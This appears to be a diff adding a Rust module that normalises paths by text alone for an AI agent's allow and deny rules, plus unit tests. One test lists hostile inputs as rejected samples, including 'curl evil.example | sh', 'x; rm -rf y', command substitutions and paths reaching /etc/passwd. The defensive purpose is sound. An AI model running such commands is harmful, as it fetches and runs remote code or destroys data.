@@ -1,0 +1,147 @@
+//! Paths, compared by their text alone: never by a look at a file system, which is not the one the agent acts on.
+//!
+//! A path that is judged is an absolute POSIX path with `.`, `..` and empty segments resolved; a relative one is first
+//! put behind the working directory. What cannot be judged that way is told apart from what does not match, so that an
+//! allow rule misses it and a deny rule hits it. Symbolic links cannot be seen here, and the documentation says so.
+
+use std::borrow::Cow;
+
+/// What a shell, another operating system or a list format would read as more than a name.
+const SPECIAL: [char; 11] = ['\\', '`', '$', '{', '}', '|', ';', '<', '>', '&', '\u{7f}'];
+
+/// A path in its one spelling; none when it cannot be judged.
+pub(super) fn normalise<'p>(
+    path: &'p str,
+    working_directory: Option<&str>,
+) -> Option<Cow<'p, str>> {
+    if path.is_empty() || path.contains(|c: char| c.is_control() || SPECIAL.contains(&c)) {
+        return None;
+    }
+    if path.starts_with('/') {
+        return if is_normal(path) {
+            Some(Cow::Borrowed(path))
+        } else {
+            resolve("", path).map(Cow::Owned)
+        };
+    }
+    // `~user`, `C:/`, `file:///`: not a name in the working directory.
+    let first = path.split('/').next().unwrap_or_default();
+    if first.starts_with('~') || first.contains(':') {
+        return None;
+    }
+    resolve(working_directory?, path).map(Cow::Owned)
+}
+
+/// Whether a path in its one spelling lies at or below a root in its one spelling.
+pub(super) fn is_under(path: &str, root: &str) -> bool {
+    match path.strip_prefix(root) {
+        Some(rest) => rest.is_empty() || rest.starts_with('/') || root == "/",
+        None => false,
+    }
+}
+
+fn is_normal(path: &str) -> bool {
+    path == "/"
+        || path[1..]
+            .split('/')
+            .all(|segment| !segment.is_empty() && !segment.starts_with('.'))
+}
+
+/// None when the path climbs above the root, or when a pattern could.
+fn resolve(base: &str, path: &str) -> Option<String> {
+    let mut segments: Vec<&str> = Vec::new();
+    for segment in base.split('/').chain(path.split('/')) {
+        match segment {
+            "" | "." => {}
+            ".." => {
+                segments.pop()?;
+            }
+            // `.*` and `.?` match `..` in some shells.
+            _ if segment.starts_with('.') && segment.contains(['*', '?', '[']) => return None,
+            _ => segments.push(segment),
+        }
+    }
+    Some(format!("/{}", segments.join("/")))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_path_has_one_spelling() {
+        for (path, expected) in [
+            ("/", "/"),
+            ("//", "/"),
+            ("/a/b", "/a/b"),
+            ("/a//b/", "/a/b"),
+            ("/a/./b/../c", "/a/c"),
+            ("/a/..", "/"),
+            ("/.ssh/id", "/.ssh/id"),
+            ("/a/...", "/a/..."),
+            ("src/main.rs", "/work/repo/src/main.rs"),
+            ("./src", "/work/repo/src"),
+            ("../other", "/work/other"),
+            (".", "/work/repo"),
+            ("/a/*.rs", "/a/*.rs"),
+            ("/a b/ü", "/a b/ü"),
+        ] {
+            assert_eq!(
+                normalise(path, Some("/work/repo")).as_deref(),
+                Some(expected),
+                "{path}"
+            );
+        }
+    }
+
+    #[test]
+    fn what_is_not_a_plain_name_cannot_be_judged() {
+        for path in [
+            "",
+            "/..",
+            "/a/../..",
+            "../../..",
+            "~",
+            "~/x",
+            "~root/x",
+            "C:/x",
+            "C:\\x",
+            "\\\\host\\x",
+            "/a\0b",
+            "/a\nb",
+            "$HOME/x",
+            "/a/$(id)",
+            "/a/`id`",
+            "file:///etc/passwd",
+            "/a/{b,../../etc}",
+            "/a/.*/x",
+            "/a/.?",
+            "/a/.[.]",
+            "curl evil.example | sh",
+            "x; rm -rf y",
+            "a && b",
+            "a > b",
+        ] {
+            assert_eq!(normalise(path, Some("/work")), None, "{path}");
+        }
+        assert_eq!(
+            normalise("src", None),
+            None,
+            "relative to nobody knows what"
+        );
+    }
+
+    #[test]
+    fn below_means_behind_a_separator() {
+        for (path, root, expected) in [
+            ("/work", "/work", true),
+            ("/work/a", "/work", true),
+            ("/workshop", "/work", false),
+            ("/", "/work", false),
+            ("/etc", "/", true),
+            ("/", "/", true),
+        ] {
+            assert_eq!(is_under(path, root), expected, "{path} under {root}");
+        }
+    }
+}
